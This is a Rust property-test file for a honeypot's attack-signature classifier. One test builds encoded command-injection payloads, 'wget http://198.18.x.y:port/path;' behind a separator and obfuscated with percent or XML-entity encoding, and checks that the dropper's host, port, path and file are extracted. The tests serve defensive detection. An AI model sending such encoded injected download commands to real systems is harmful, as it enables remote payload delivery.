//! Property tests: arbitrary bytes, arbitrary words, and encoded download commands.

use std::sync::LazyLock;

use honeyxdp_signatures::Signatures;
use proptest::prelude::*;

use crate::{judge::judge, mutated::WORDS};

/// Compiled once for all cases.
static BUILT_IN: LazyLock<Signatures> = LazyLock::new(|| Signatures::built_in().unwrap());

/// A byte, encoded as in a form or in XML, or unchanged.
fn encoded(byte: u8, encoding: u8) -> Vec<u8> {
    match encoding % 4 {
        0 => format!("%{byte:02X}").into_bytes(),
        1 => format!("&#{byte};").into_bytes(),
        2 => format!("&#x{byte:x};").into_bytes(),
        _ => vec![byte],
    }
}

proptest! {
    #[test]
    fn classifies_any_bytes(payload in prop::collection::vec(any::<u8>(), 0..2048)) {
        judge(&BUILT_IN, &payload).unwrap();
    }

    #[test]
    fn classifies_any_words(words in prop::collection::vec(prop::sample::select(WORDS), 0..80)) {
        judge(&BUILT_IN, words.concat().as_bytes()).unwrap();
    }

    #[test]
    fn reads_download_command_in_any_encoding(
        path in "(/[a-z0-9._-]{1,12}){1,5}",
        host in prop::array::uniform2(any::<u8>()),
        port in 1_u16..,
        encodings in prop::collection::vec(any::<u8>(), 1..40),
        before in "[a-z;=/ ]{0,20}[;=/ ]",
    ) {
        let host = format!("198.18.{}.{}", host[0], host[1]);
        let command = format!("wget http://{host}:{port}{path};");
        let bytes = command.bytes().zip(encodings.iter().cycle()).flat_map(|(byte, encoding)| encoded(byte, *encoding));
        let payload: Vec<u8> = before.bytes().chain(bytes).collect();
        let dropper = BUILT_IN.classify(&payload).dropper.unwrap();
        let file = path.rsplit('/').next().unwrap_or_default().to_owned();
        prop_assert_eq!((dropper.host, dropper.port, dropper.path, dropper.file), (host, Some(port), path, file));
    }
}
